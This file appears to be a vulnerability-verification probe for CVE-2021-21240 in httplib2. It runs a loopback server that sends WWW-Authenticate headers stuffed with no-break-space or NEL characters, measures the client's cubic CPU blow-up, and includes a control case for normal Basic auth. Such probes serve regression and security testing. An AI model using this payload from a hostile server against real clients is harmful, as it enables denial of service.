# /// vertice-probe
# id = "PYSEC-2021-16"
# aliases = ["CVE-2021-21240", "GHSA-93xj-8mrv-444m"]
# package = "httplib2"
# summary = """\
#   The pattern for WWW-Authenticate headers backtracks over no-break spaces, so a malicious server keeps the \
#   client's CPU busy."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400"]
# kind = "redos"
# symbols = ["httplib2.Http", "httplib2.Http.request"]
#
# [[affected]]
# package = "httplib2"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "0.19.0" }] }]
#
# [cases]
# attack = "a challenge of no-break spaces from a server on loopback takes cubic time"
# [cases.variants]
# parameter = "the spaces come after a valid Basic parameter, and are NEL characters"
# [cases.controls]
# basic = "a request is repeated with Basic credentials after a challenge"
#
# [test]
# vulnerable = "0.18.1"
# fixed = "0.19.0"
# ///
"""CVE-2021-21240: cubic backtracking over WWW-Authenticate."""

import base64
import json
import socket
import sys
import threading
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def serve(answer):
    """A server on loopback that gives answer(request bytes) to each connection; its address."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)

    def loop():
        while True:
            connection, _ = listener.accept()
            request = b""
            while b"\r\n\r\n" not in request:
                request += connection.recv(65536)
            connection.sendall(answer(request))
            connection.close()

    thread = threading.Thread(target=loop)
    thread.daemon = True
    thread.start()
    return "http://127.0.0.1:%d/" % listener.getsockname()[1]


def challenge(value):
    head = b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 2\r\nConnection: close\r\nWWW-Authenticate: "
    return head + value + b"\r\n\r\nno"


def measure(value):
    import httplib2

    sizes = {}
    address = serve(lambda request: challenge(value(sizes["now"])))

    def work(size):
        sizes["now"] = size
        client = httplib2.Http()
        client.add_credentials("alice", "secret")
        try:
            status = client.request(address)[0].status
        except httplib2.MalformedHeader:
            return "MalformedHeader"
        if status != 401:
            raise RuntimeError("unexpected status %r" % status)
        return "status 401"

    return judge(work, 300, 900, 9, "characters")


def attack():
    return measure(lambda size: b"x " + b"\xa0" * size + b"y")


def parameter():
    return measure(lambda size: b'Basic realm="shop", ' + b"\x85" * size + b"y")


def basic():
    import httplib2

    token = b"Basic " + base64.b64encode(b"alice:secret")

    def answer(request):
        if token in request:
            return b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\nConnection: close\r\n\r\nwelcome"
        return challenge(b'Basic realm="shop"')

    client = httplib2.Http()
    client.add_credentials("alice", "secret")
    response, content = client.request(serve(answer))
    return ("works" if (response.status, content) == (200, b"welcome") else "broken"), repr((response.status, content))


CASES = {"attack": attack, "parameter": parameter, "basic": basic}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
